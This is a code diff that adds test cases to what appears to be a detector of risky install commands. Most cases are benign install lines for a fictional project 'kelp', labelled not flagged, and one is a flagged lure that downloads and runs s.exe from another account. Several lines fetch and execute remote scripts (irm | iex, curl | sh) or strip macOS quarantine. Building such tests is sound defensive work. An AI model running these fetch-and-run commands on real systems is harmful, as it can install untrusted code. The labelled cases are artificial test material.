@@ -1939,6 +1939,140 @@ def everyday() -> list[Case]:
     return out
 
 
+def one_project() -> list[Case]:
+    """One long-tail project documented every way its READMEs and docs pages write it for
+    Windows, macOS and Linux: version variables, the releases API, MSI/MSIX/DMG/PKG, apt and
+    dnf repositories on its domain, package registries' pages: not flagged."""
+    out: list[Case] = []
+
+    def add(cid: str, text: str, source: str, target: str = "terminal") -> None:
+        platform = {"w": "windows", "m": "macos", "l": "linux"}[cid[0]]
+        out.append(
+            case(f"b4-kelp-{cid}", text, "not_flagged", "benign-own-page", platform, source, target)
+        )
+
+    gh = "https://github.com/kelpforest/kelp"
+    add(
+        "w1",
+        '$version = "2.3.1"\n$url = "https://github.com/kelpforest/kelp/releases/download/v$version/kelp-$version-windows-x64.zip"\nInvoke-WebRequest $url -OutFile "$env:TEMP\\kelp.zip"\nExpand-Archive "$env:TEMP\\kelp.zip" -DestinationPath "$env:LOCALAPPDATA\\Programs\\kelp" -Force',
+        gh + "/releases",
+    )
+    add(
+        "w2",
+        '$tag = (Invoke-RestMethod https://api.github.com/repos/kelpforest/kelp/releases/latest).tag_name\nInvoke-WebRequest "https://github.com/kelpforest/kelp/releases/download/$tag/kelp-setup.exe" -OutFile kelp-setup.exe\nStart-Process .\\kelp-setup.exe -ArgumentList "/VERYSILENT" -Wait',
+        gh,
+    )
+    add(
+        "w3",
+        "winget install --id KelpForest.Kelp --exact --accept-source-agreements --accept-package-agreements",
+        gh,
+    )
+    add("w4", "scoop install https://raw.githubusercontent.com/kelpforest/kelp/main/kelp.json", gh)
+    add(
+        "w5",
+        'msiexec /i "https://github.com/kelpforest/kelp/releases/download/v2.3.1/kelp-2.3.1-x64.msi" /qn /norestart',
+        gh + "/releases/tag/v2.3.1",
+    )
+    add(
+        "w6",
+        'iex "& { $(irm https://kelpforest.github.io/kelp/install.ps1) } -InstallDir C:\\Tools\\kelp"',
+        "https://kelpforest.github.io/kelp/",
+    )
+    add(
+        "w7",
+        "Invoke-WebRequest -UseBasicParsing https://get.kelp.dev/install.ps1 | Invoke-Expression",
+        "https://kelp.dev/docs/install/windows",
+    )
+    add("w8", 'powershell -c "irm https://get.kelp.dev/install.ps1 | iex"', "https://kelp.dev/")
+    add(
+        "w9",
+        "Set-ExecutionPolicy RemoteSigned -Scope CurrentUser; irm https://get.kelp.dev/install.ps1 | iex",
+        "https://docs.kelp.dev/getting-started",
+    )
+    add(
+        "w10",
+        '$ProgressPreference = "SilentlyContinue"; iwr https://dl.kelp.dev/kelp-setup.msi -OutFile $env:TEMP\\kelp.msi; Start-Process msiexec -ArgumentList "/i $env:TEMP\\kelp.msi /qn" -Wait',
+        "https://kelp.dev/download",
+    )
+    add(
+        "w11",
+        "curl.exe -L -o kelp.zip https://github.com/kelpforest/kelp/releases/latest/download/kelp-windows.zip && tar -xf kelp.zip",
+        gh,
+    )
+    add(
+        "w12",
+        "choco install kelp --version=2.3.1 -y",
+        "https://community.chocolatey.org/packages/kelp",
+    )
+    add(
+        "w13",
+        "Install-Module -Name KelpTools -Scope CurrentUser -Force",
+        "https://www.powershellgallery.com/packages/KelpTools",
+    )
+    add("w14", "dotnet tool install --global Kelp.Cli", "https://www.nuget.org/packages/Kelp.Cli")
+    add(
+        "w15",
+        "Add-AppxPackage -Path https://github.com/kelpforest/kelp/releases/download/v2.3.1/Kelp.msixbundle",
+        gh + "/releases",
+    )
+    add(
+        "w16",
+        'wsl --install; wsl -d Ubuntu -- bash -c "curl -fsSL https://get.kelp.dev | sh"',
+        "https://kelp.dev/docs/install/wsl",
+    )
+    add("m1", "brew install --cask kelpforest/tap/kelp", gh)
+    add(
+        "m2",
+        "curl -fsSL https://github.com/kelpforest/kelp/releases/download/v2.3.1/Kelp.dmg -o /tmp/Kelp.dmg && hdiutil attach /tmp/Kelp.dmg && cp -R /Volumes/Kelp/Kelp.app /Applications/ && hdiutil detach /Volumes/Kelp",
+        gh + "/releases",
+    )
+    add(
+        "m3",
+        "sudo installer -pkg ~/Downloads/kelp-2.3.1.pkg -target /",
+        "https://kelp.dev/docs/install/macos",
+    )
+    add(
+        "m4",
+        "xattr -dr com.apple.quarantine /Applications/Kelp.app",
+        "https://kelp.dev/docs/install/macos",
+    )
+    add(
+        "l1",
+        'echo "deb [signed-by=/usr/share/keyrings/kelp.gpg] https://apt.kelp.dev stable main" | sudo tee /etc/apt/sources.list.d/kelp.list\ncurl -fsSL https://apt.kelp.dev/gpg.key | sudo gpg --dearmor -o /usr/share/keyrings/kelp.gpg\nsudo apt update && sudo apt install kelp',
+        "https://kelp.dev/docs/install/debian",
+    )
+    add(
+        "l2",
+        "sudo dnf config-manager --add-repo https://rpm.kelp.dev/kelp.repo && sudo dnf install kelp",
+        "https://kelp.dev/docs/install/fedora",
+    )
+    add(
+        "l3",
+        "curl -fsSL https://kelp.dev/install.sh | sh -s -- --version 2.3.1 --prefix /opt/kelp",
+        "https://kelp.dev/docs/install",
+    )
+    add(
+        "l4",
+        "curl -fsSL https://get.kelp.dev | KELP_INSTALL_DIR=/usr/local/bin sudo -E sh",
+        "https://kelp.dev/docs/install",
+    )
+    add(
+        "l5",
+        "docker run -d --name kelp -p 8080:8080 -v kelp-data:/data ghcr.io/kelpforest/kelp:2.3.1",
+        gh,
+    )
+    add(
+        "l6",
+        'curl -fsSLo kelp.tar.gz https://github.com/kelpforest/kelp/releases/download/v2.3.1/kelp_linux_amd64.tar.gz\necho "3f786850e387550fdab836ed7e6dc881de23001b3f786850e387550fdab836ed  kelp.tar.gz" | sha256sum -c\nsudo tar -C /usr/local/bin -xzf kelp.tar.gz kelp',
+        gh + "/releases/tag/v2.3.1",
+    )
+    add("l7", "snap install kelp --classic", "https://snapcraft.io/kelp")
+    add("l8", "flatpak install flathub dev.kelp.Kelp", "https://flathub.org/apps/dev.kelp.Kelp")
+    add("l9", "yay -S kelp-bin", "https://aur.archlinux.org/packages/kelp-bin")
+    add("l10", "nix profile install nixpkgs#kelp", "https://search.nixos.org/packages?query=kelp")
+    return out
+
+
 MACOS = {"dv11", "dv18", "dv19", "dv20", "dv21", "dv22"}
 
 
@@ -2243,6 +2377,16 @@ def lures() -> list[Case]:
         "terminal",
         "flagged",
     )
+    # the releases API of another account, from a project's README
+    add(
+        "$tag = (irm https://api.github.com/repos/mallory/x/releases/latest).tag_name; iwr "
+        '"https://github.com/mallory/x/releases/download/$tag/s.exe" -OutFile s.exe; '
+        "Start-Process .\\s.exe",
+        "https://github.com/kelpforest/kelp",
+        "terminal",
+        "flagged",
+        "windows",
+    )
     return out
 
 
@@ -2259,6 +2403,7 @@ def build() -> list[Case]:
         *config(),
         *more_shapes(),
         *everyday(),
+        *one_project(),
         *lures(),
     ]
 
